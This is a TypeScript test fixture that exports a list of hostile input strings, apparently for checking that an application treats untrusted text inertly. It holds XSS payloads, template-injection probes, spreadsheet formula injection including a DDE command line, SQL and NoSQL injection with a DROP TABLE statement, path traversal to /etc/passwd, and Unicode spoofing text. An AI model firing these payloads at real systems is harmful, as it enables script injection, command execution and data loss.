/** What would happen if one of them were taken for more than text: a mark in the page, a call, a request, a jump. */
const run = 'window.pwned=1';
const mark = '<x-pwned></x-pwned>';
const elsewhere = 'https://elsewhere.invalid/';

const markup = [
  mark,
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `"><img src=x onerror=${run}>`,
  `'><svg onload=${run}>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<base href="${elsewhere}">`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `<link rel=stylesheet href="${elsewhere}x.css">`,
  `<style>*{background:url(${elsewhere})}</style>`,
  `<form action="${elsewhere}"><button>Zapłać</button></form>`,
  `<a href="javascript:${run}" target=_top>kliknij</a>`,
  `<math><mtext></p><mglyph><style><img src onerror=${run}>`,
  `<noscript><p title="</noscript><img src onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<input autofocus onfocus=${run}>`,
  `<body onload=${run}>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `<slot name=x-pwned>${mark}</slot>`,
];
const attributes = [
  `" onmouseover="${run}" x="`,
  `' onfocus='${run}' autofocus x='`,
  `x" style="position:fixed;inset:0" y="`,
  '`onclick=alert(1)`',
  `" slot="actions`,
  `" part="confirm" exportparts="confirm`,
];
const templates = [
  '${7*7}',
  '{{7*7}}',
  '{{constructor.constructor("window.pwned=1")()}}',
  '#{7*7}',
  '<%= 7*7 %>',
  'lit$123456789$',
  '{{lit-9}}',
  '<!--lit-part-->',
  '?lit$',
];
const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java\tscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `vbscript:${run}`,
  `blob:${elsewhere}1`,
  `${elsewhere.replace('https', 'http')}plain`,
  'https://user:secret@elsewhere.invalid/',
  '//elsewhere.invalid/x',
  'file:///etc/passwd',
  '../../../../etc/passwd',
  '#/x?y=1',
];
const styles = [
  `expression(${run})`,
  `red;background:url(${elsewhere})`,
  `}*{display:none}`,
  `@import url(${elsewhere})`,
];
const formulas = [
  `=HYPERLINK("${elsewhere}";"Faktura")`,
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|'/c calc'!A0",
  '"=1+1',
];
const queries = [`'; drop table mail_release.items; --`, `" or ""="`, `%' or 1=1 --`, '{"$ne": null}'];
const names = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'];
const characters = [
  'Alfa\u202Egnp.exe',
  'Alfa\u2066\u2067\u202D Beta',
  'A\u200Bl\u200Cf\u200Da\uFEFF',
  'Zażółć 👨‍👩‍👧‍👦 gęślą',
  'a\u0301'.repeat(60),
  'W'.repeat(400),
  'linia 1\nlinia 2\r\nlinia 3',
  'شركة الأفق',
  '\u0007\u001B[31mczerwone',
];

/** Texts that have broken out of somebody's page, table or database. */
export const hostileTexts: readonly string[] = [
  ...markup,
  ...attributes,
  ...templates,
  ...addresses,
  ...styles,
  ...formulas,
  ...queries,
  ...names,
  ...characters,
];
